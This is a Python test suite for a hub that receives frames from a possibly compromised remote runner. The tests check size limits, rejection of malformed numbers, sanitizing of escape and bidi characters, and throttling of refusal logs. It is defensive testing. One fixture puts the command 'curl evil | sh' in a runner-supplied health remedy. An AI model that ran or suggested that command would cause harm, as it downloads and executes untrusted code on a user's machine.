"""A runner that was taken over: its words cost the hub little, and nobody is shown them as such."""

import asyncio
import contextlib
import json

import pytest
from cryptography import x509
from pydantic import ValidationError
from structlog.testing import capture_logs
from tests.runner.bench import until
from tests.runner.far import NAME
from tests.runner.test_hub import (
    HUB,
    RUNNER,
    as_runner,
    ended,
    heard,
    ignore,
    listening,
    me,
    order,
    sandbox,
)

from vigil.domain.effects import Call
from vigil.domain.errors import LockHeld, PortUnavailable
from vigil.domain.foreseen import Foreseen
from vigil.domain.plan import ActionResult, ActionStatus, CallRecord
from vigil.domain.remote import Answer, Hello, RunnerBeat
from vigil.domain.run import Health
from vigil.domain.switch import SwitchState
from vigil.domain.wire import (
    CallEvent,
    DryRunEvent,
    FinishedEvent,
    HealthEvent,
    OutputEvent,
    RefusedEvent,
)
from vigil.integrations.sandbox import hub as hub_module
from vigil.integrations.sandbox.cleaning import MAX_TOLD_CHARS, cleaned
from vigil.integrations.sandbox.flood import MAX_BEAT_BYTES, MAX_SAID_BYTES, MOST_PARTS, crowded
from vigil.link.lines import Gone, Lines
from vigil.link.tls import runner_side
from vigil.runner.remote.link import opened

EVIL = "\x1b[2Jall\nis well\u202e" + "x" * 5000
CALL = CallRecord(
    call=Call(verb="v\x1b[1m", grant="g\n", arguments=("a\x00",)), allowed=True, result=EVIL
)


def answer(number: int, text: str) -> str:
    return Answer(id=number, event=RefusedEvent(error="LockHeld", text=text)).model_dump_json()


# --- what it costs -----------------------------------------------------------------------------


async def test_an_answer_that_nobody_waits_for_is_not_even_read() -> None:
    async with listening() as hub, as_runner(hub) as lines:
        asked = asyncio.create_task(sandbox(hub).run(order(), ignore))
        await heard(lines, '"frame":"order"')
        for _ in range(20):
            await lines.send('{"frame":"answer","id":99,' + "x" * 1_000_000)
        await lines.send(answer(1, "later"))
        with pytest.raises(LockHeld, match="later"):
            await asyncio.wait_for(asked, 30)
        assert hub.runner(NAME) is not None


async def test_after_the_end_of_an_answer_nothing_more_of_it_is_read() -> None:
    async with listening() as hub, as_runner(hub) as lines:
        connected = hub.runner(NAME)
        assert connected is not None
        answers = connected.health()
        first = asyncio.ensure_future(anext(answers))
        await heard(lines, '"frame":"health"')
        await lines.send(answer(1, "the end"))
        await lines.send('{"frame":"answer","id":1,' + "x" * 1_000_000)
        event = await asyncio.wait_for(first, 10)
        assert isinstance(event, RefusedEvent)
        with pytest.raises(StopAsyncIteration):
            await asyncio.wait_for(anext(answers), 10)
        await lines.send(RunnerBeat(number=9, switch=SwitchState(stopped=True)).model_dump_json())
        await until(lambda: connected.switch is not None)
        assert hub.runner(NAME) is connected


async def test_only_answers_may_be_long() -> None:
    long = SwitchState(stopped=False, text="x" * MAX_BEAT_BYTES)
    async with listening() as hub, as_runner(hub) as lines:
        with contextlib.suppress(Gone):
            await lines.send(RunnerBeat(number=1, switch=long).model_dump_json())
        await until(lambda: hub.runner(NAME) is None)


async def test_a_line_of_output_that_no_runner_would_send_is_left_out() -> None:
    told: list[str] = []

    async def tell(line: str) -> None:
        told.append(line)

    async with listening() as hub, as_runner(hub) as lines:
        asked = asyncio.create_task(sandbox(hub).run(order(), tell))
        await heard(lines, '"frame":"order"')
        for line in ("x" * MAX_SAID_BYTES, "short"):
            await lines.send(Answer(id=1, event=OutputEvent(line=line)).model_dump_json())
        await lines.send(answer(1, "no"))
        with pytest.raises(LockHeld):
            await asyncio.wait_for(asked, 10)
    assert told == ["short"]


async def test_a_crowded_answer_ends_the_connection() -> None:
    async with listening() as hub, as_runner(hub) as lines:
        asked = asyncio.create_task(sandbox(hub).run(order(), ignore))
        await heard(lines, '"frame":"order"')
        _, serving = hub._connected[NAME]
        many = ",".join(f'"a{number}":0' for number in range(100_000))
        with contextlib.suppress(Gone):
            await lines.send(f'{{"frame":"answer","id":1,{many}}}')
        with pytest.raises(PortUnavailable):
            await asyncio.wait_for(asked, 10)
        with pytest.raises(Gone, match="more parts than any"):
            await serving


@pytest.mark.parametrize(
    ("line", "is_crowded"),
    [
        (b"[" + b"0," * MOST_PARTS + b"0]", True),
        (b'{"a":[' + b'{"b":[0]},' * MOST_PARTS + b"0]}", True),
        (b"[" * 100_000, True),
        (b"no json", True),
        (b'{"a":"' + b"x" * 1_000_000 + b'"}', False),
        (b'{"a":[0]}', False),
    ],
    ids=["list", "nested", "deep", "garbage", "long-text", "short"],
)
def test_parts_are_counted(line: bytes, is_crowded: bool) -> None:
    assert crowded(line) is is_crowded


def test_the_end_of_a_run_with_all_its_calls_is_not_crowded() -> None:
    call = Call(verb="v", grant="g", arguments=("a",) * 10)
    calls = (CallRecord(call=call, allowed=True, result="r" * 1000),) * 130
    end = ActionResult(
        action="a1", status=ActionStatus.SUCCEEDED, exit_code=0, calls=calls, seconds=1.0
    )
    assert not crowded(Answer(id=1, event=FinishedEvent(result=end)).model_dump_json().encode())


@pytest.mark.parametrize("seconds", [float("nan"), float("inf"), -1.0])
def test_an_end_lasted_some_seconds(seconds: float) -> None:
    with pytest.raises(ValidationError, match="seconds"):
        ActionResult(action="a1", status=ActionStatus.FAILED, exit_code=1, seconds=seconds)


@pytest.mark.parametrize(
    "odd",
    [
        {"exit_code": 10**400},
        {"peak": {"memory_bytes": 10**400}},
        {"peak": {"memory_bytes": -1}},
        {"peak": {"processes": 2**31}},
        {"peak": {"cpu_s": float("nan")}},
        {"peak": {"cpu_s": float("inf")}},
    ],
    ids=["code", "memory", "negative", "processes", "nan", "infinite"],
)
async def test_an_end_with_numbers_that_no_machine_has_ends_the_connection(
    odd: dict[str, object],
) -> None:
    """Nobody could reckon with them, nor spell what was signed."""
    result = {"action": "a1", "status": "failed", "exit_code": 1, "seconds": 1.0} | odd
    end = {"frame": "answer", "id": 1, "event": {"event": "finished", "result": result}}
    async with listening() as hub, as_runner(hub) as lines:
        asked = asyncio.create_task(sandbox(hub).run(order(), ignore))
        await heard(lines, '"frame":"order"')
        await lines.send(json.dumps(end, separators=(",", ":")))
        with pytest.raises(PortUnavailable):
            await asyncio.wait_for(asked, 10)


# --- what is shown of it -----------------------------------------------------------------------


@pytest.mark.parametrize(
    "event",
    [
        OutputEvent(line=EVIL),
        CallEvent(record=CALL),
        RefusedEvent(error="LockHeld", text=EVIL),
        HealthEvent(health=Health(part="p", ok=False, text=EVIL, remedy=EVIL)),
        DryRunEvent(
            foreseen=(Foreseen(action="a\x1b", call=CALL.call, ok=True, text=EVIL[:900]),) * 999
        ),
    ],
    ids=lambda event: event.event,
)
def test_its_words_are_cleaned_and_bounded(event: OutputEvent | CallEvent) -> None:
    shown = cleaned(event).model_dump_json()
    for bad in (r"\u001b", r"\n", r"\u0000", "\u202e", "x" * 2001):
        assert bad not in shown
    assert len(shown) < 200_000


def test_what_it_would_do_can_be_read_again_from_the_record() -> None:
    """To mask what is secret may make a text longer than it was."""
    longest = Foreseen(action="a", ok=True, text="pwd=x " * 166)
    (kept,) = cleaned(DryRunEvent(foreseen=(longest,))).foreseen  # type: ignore[union-attr]
    assert Foreseen.model_validate_json(kept.model_dump_json()) == kept


@pytest.mark.parametrize("error", ["LockHeld", "PermanentError", "PlanMismatch", "no such error"])
async def test_a_refusal_instead_of_its_health_is_told_as_its_health(error: str) -> None:
    no = Answer(id=1, event=RefusedEvent(error=error, text="I would rather not")).model_dump_json()
    async with listening() as hub, as_runner(hub) as lines:
        asked = asyncio.create_task(sandbox(hub).health())
        await heard(lines, '"frame":"health"')
        await lines.send(no)
        health = await asyncio.wait_for(asked, 10)
    assert (health.ok, health.vital, health.text) == (False, False, "I would rather not")


async def test_its_switch_and_its_health_are_told_in_words_that_are_fit_to_be_shown() -> None:
    sick = HealthEvent(health=Health(part="p", ok=False, text=EVIL, remedy="curl evil | sh"))
    async with listening() as hub, as_runner(hub) as lines:
        asked = asyncio.create_task(sandbox(hub).health())
        await heard(lines, '"frame":"health"')
        await lines.send(Answer(id=1, event=sick).model_dump_json())
        health = await asyncio.wait_for(asked, 10)
        assert "; all is wellx" in health.text
        assert len(health.text) < MAX_TOLD_CHARS + 100
        hubs, runners = str(health.remedy).split(" The runner itself says: ")
        assert "vigil doctor" in hubs
        assert runners == "curl evil | sh", "it is told as what it is"
        beat = RunnerBeat(number=1, switch=SwitchState(stopped=True, text=EVIL, by=EVIL))
        await lines.send(beat.model_dump_json())
        connected = hub.runner(NAME)
        assert connected is not None
        await until(lambda: connected.switch is not None)
        assert connected.switch is not None
        assert "\x1b" not in connected.switch.text + connected.switch.by
        assert len(connected.switch.text) <= MAX_TOLD_CHARS


# --- before it is let in -----------------------------------------------------------------------


async def test_a_first_word_is_short() -> None:
    async with listening() as hub:
        async with opened(hub.address, me()) as lines:
            hello = Hello(runner=NAME, session="0" * 64).model_dump_json()
            await lines.send(hello.replace(":", ":" + " " * 2000, 1))
            await ended(lines)
        assert "longer than any may be" in (hub.refused_at("127.0.0.1") or "")


async def test_a_certificate_that_cannot_be_read_is_nobodys(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    def odd(_: bytes) -> None:
        raise TypeError("no such certificate")

    monkeypatch.setattr(x509, "load_der_x509_certificate", odd)
    context = runner_side(RUNNER, HUB.public)
    async with listening() as hub:
        reader, writer = await asyncio.open_connection(
            *hub.address, ssl=context, server_hostname=""
        )
        lines = Lines(reader, writer)
        await lines.send(Hello(runner=NAME, session="0" * 64).model_dump_json())
        await ended(lines)
        await lines.close()
        assert "has another runner's key" in (hub.refused_at("127.0.0.1") or "")


@pytest.mark.parametrize(
    ("host", "place"),
    [
        ("192.0.2.1", "192.0.2.1"),
        ("2001:db8:1:2:aaaa::1", "2001:db8:1:2::/64"),
        ("2001:db8:1:2:bbbb::9", "2001:db8:1:2::/64"),
        ("2001:db8:1:3::1", "2001:db8:1:3::/64"),
        ("fe80::1%eth0", "fe80::/64"),
        ("::ffff:192.0.2.1", "192.0.2.1"),
    ],
)
def test_a_machine_with_many_addresses_is_one_stranger(host: str, place: str) -> None:
    assert hub_module._place(host) == place


async def test_many_addresses_that_are_refused_fill_no_log() -> None:
    async with listening() as hub:
        with capture_logs() as logs:
            for number in range(500):
                hub._refuse(f"192.0.{number >> 8}.{number & 255}", "no key")
    assert len(logs) == hub_module.MAX_TOLD
